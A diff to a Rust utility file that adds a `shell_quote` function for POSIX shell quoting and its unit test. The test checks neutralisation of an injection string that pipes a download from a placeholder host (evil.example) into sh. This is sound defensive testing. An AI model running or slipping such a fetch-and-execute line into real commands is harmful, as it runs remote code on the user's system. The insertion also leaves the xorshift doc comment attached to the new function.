@@ -61,6 +61,20 @@ pub fn excerpt(s: &str, at: usize) -> String {
 }
 
 /// A seeded xorshift generator for tests: each call gives a number below its bound.
+/// `s` as one word of a POSIX shell command a user may paste: as it is when it holds only
+/// characters no shell treats specially, else in single quotes (a quote inside written `'\''`).
+/// Control characters are escaped afterwards by the printer, like any text from the input.
+pub fn shell_quote(s: &str) -> String {
+    let plain = !s.is_empty()
+        && s.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_-./:=@%+,".contains(c));
+    if plain {
+        s.to_owned()
+    } else {
+        format!("'{}'", s.replace('\'', "'\\''"))
+    }
+}
+
 #[cfg(test)]
 pub fn xorshift(mut seed: u64) -> impl FnMut(usize) -> usize {
     move |bound: usize| {
@@ -121,6 +135,18 @@ pub fn capped(s: &str, max: usize) -> String {
 
 #[cfg(test)]
 mod tests {
+
+    #[test]
+    fn shell_words_are_quoted_when_a_shell_would_read_them() {
+        assert_eq!(shell_quote("ses_x"), "ses_x");
+        assert_eq!(shell_quote("/tmp/a b.json"), "'/tmp/a b.json'");
+        assert_eq!(
+            shell_quote("ses_x; curl evil.example|sh #"),
+            "'ses_x; curl evil.example|sh #'"
+        );
+        assert_eq!(shell_quote("it's"), "'it'\\''s'");
+        assert_eq!(shell_quote(""), "''");
+    }
     use super::*;
 
     #[test]
